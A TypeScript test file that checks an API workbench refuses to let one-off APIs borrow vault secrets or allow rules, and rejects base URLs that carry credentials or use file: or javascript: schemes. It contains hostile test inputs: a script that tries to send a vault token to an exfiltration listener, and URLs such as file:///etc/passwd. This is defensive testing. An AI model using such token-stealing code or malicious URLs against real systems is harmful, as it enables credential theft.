/**
 * A one-off API cannot borrow a registered API's trust, and a base URL cannot
 * carry a credential or leave http(s) (issue #10, classes 7 and 8). Tried
 * through the faces a person or a script uses: the CLI (`run --spec`,
 * `api add`), the bridge's channel handlers, and a hostile spec's servers.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { main } from "../../cli.ts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createHandlers, dispatchChannel } from "../handlers/index.ts";
import { assertNoSecret, cli, openAttackBench, VICTIM_SPEC, type AttackBench } from "./harness.ts";

let bench: AttackBench;
let specFile: string;
beforeAll(async () => {
  bench = await openAttackBench(main);
  specFile = join(bench.dataDir, "victim-copy.json");
  writeFileSync(specFile, JSON.stringify(VICTIM_SPEC));
});
afterAll(async () => bench.close());

const PASSWORD = "HunterPass9Zq";

describe("class 7: --spec cannot stand in for a registered API", () => {
  it("refuses a one-off API named like a registered one, and names that are not identifiers or are reserved", async () => {
    for (const [name, why] of [
      ["x", /an API named "x" is registered; a one-off API needs a name of its own/],
      ["__proto__", /"__proto__" is reserved in the sandbox/],
      ["constructor", /"constructor" is reserved in the sandbox/],
      ["vault", /"vault" is reserved in the sandbox/],
    ] as const) {
      const out = await cli(main, bench.dataDir, ["run", "--code", "-", "--spec", `${name}=${specFile},base=${bench.exfil.url}`]);
      expect(out).toMatch(why);
    }
    expect(bench.exfil.requests).toHaveLength(0);
  });

  it("a one-off API gets no vault access and no allow rules, whatever vault items and rules name it", async () => {
    bench.workbench.vault.set("x", "token", (bench.workbench.vault.reveal("x", "token") as { value: string }).value, { allowApis: ["x", "oneoff"] });
    bench.workbench.store.addAllowRule({ api: "oneoff", operationId: "deleteThing", createdBy: "someone" });
    const program = join(bench.dataDir, "steal.js");
    writeFileSync(program, `async () => {
      const out = [];
      try { await apis.oneoff.getThing({ id: vault.x.token }); out.push("sent"); } catch (e) { out.push(e.name + ": " + e.message); }
      try { await apis.oneoff.deleteThing({ id: "1" }); out.push("sent"); } catch (e) { out.push(e.name + ": " + e.message); }
      return out;
    }`);
    const out = await cli(main, bench.dataDir, ["run", "--code", program, "--policy", "all", "--spec", `oneoff=${specFile},base=${bench.exfil.url}`]);
    const envelope = JSON.parse(out.slice(out.indexOf("{"))) as { status: string; pending?: { operation: string } ; result?: string[] };
    // The reference is refused; the delete is not let through by the rule: it waits for a person.
    expect(envelope.status).toBe("pending");
    expect(envelope.pending?.operation).toBe("DELETE /things/{id}");
    const calls = bench.workbench.store.listRuns({ limit: 1 });
    const first = bench.workbench.store.getCalls(calls[0]!.id)[0]!;
    expect(first.error?.name).toBe("VaultDenied");
    expect(first.error?.message).toMatch(/was given on the command line \(--spec\) and gets no vault access/);
    expect(bench.exfil.requests).toHaveLength(0);
    assertNoSecret([out, ...(await bench.exposure(calls[0]!.id))]);
  });
});

describe("class 8: base URLs are http(s), without user info, query or fragment", () => {
  const bad = [
    [`http://admin:${PASSWORD}@127.0.0.1:9/api`, /may not carry a user name or password: store the secret in the vault/],
    [`https://${PASSWORD}@example.com`, /may not carry a user name or password/],
    ["file:///etc/passwd", /must be http or https, not file:/],
    ["javascript:alert(1)", /must be http or https, not javascript:/],
    ["ftp://example.com", /must be http or https, not ftp:/],
    [`https://example.com/api?key=${PASSWORD}`, /may not have a query or a fragment: an API key in the query belongs in the vault/],
    ["https://example.com/#frag", /may not have a query or a fragment/],
  ] as const;

  it("workbench api add refuses each, says where credentials belong, and never prints or stores the password", async () => {
    for (const [url, why] of bad) {
      const out = await cli(main, bench.dataDir, ["api", "add", "evil", specFile, "--base-url", url]);
      expect(out).toMatch(why);
      expect(out).not.toContain(PASSWORD);
    }
    expect(bench.workbench.registry.entry("evil")).toBeUndefined();
    expect(readFileSync(join(bench.dataDir, "registry.json"), "utf8")).not.toContain(PASSWORD);
  });

  it("the bridge's apis.update and apis.add refuse each (the app's settings form)", async () => {
    const handlers = createHandlers({ workbench: bench.workbench, shell: "browser", connect: { info: () => { throw new Error("unused"); }, rotate: async () => { throw new Error("unused"); } } });
    for (const [url, why] of bad) {
      const updated = await dispatchChannel(handlers, "apis.update", { name: "x", config: { baseUrl: url } }, { actor: "ui" });
      expect(updated.ok).toBe(false);
      expect(JSON.stringify(updated)).toMatch(why);
      expect(JSON.stringify(updated)).not.toContain(PASSWORD);
    }
    expect(bench.workbench.registry.entry("x")?.config.baseUrl).toBe(`${bench.victim.url}/api`);
  });

  it("a hostile spec's server URL with user info, or not http(s), is never used as the default base URL", async () => {
    for (const [url, why] of bad) {
      const spec = { ...VICTIM_SPEC, servers: [{ url }] };
      const file = join(bench.dataDir, "hostile-servers.json");
      writeFileSync(file, JSON.stringify(spec));
      const out = await cli(main, bench.dataDir, ["api", "add", "evil", file]);
      expect(out).toMatch(/the spec's server URL .* cannot be used/);
      expect(out).toMatch(why);
      expect(out).not.toContain(PASSWORD);
      const oneOff = await cli(main, bench.dataDir, ["run", "--code", "-", "--spec", `evil=${file}`]);
      expect(oneOff).toMatch(/cannot be used/);
      expect(oneOff).not.toContain(PASSWORD);
    }
    expect(bench.workbench.registry.entry("evil")).toBeUndefined();
  });
});
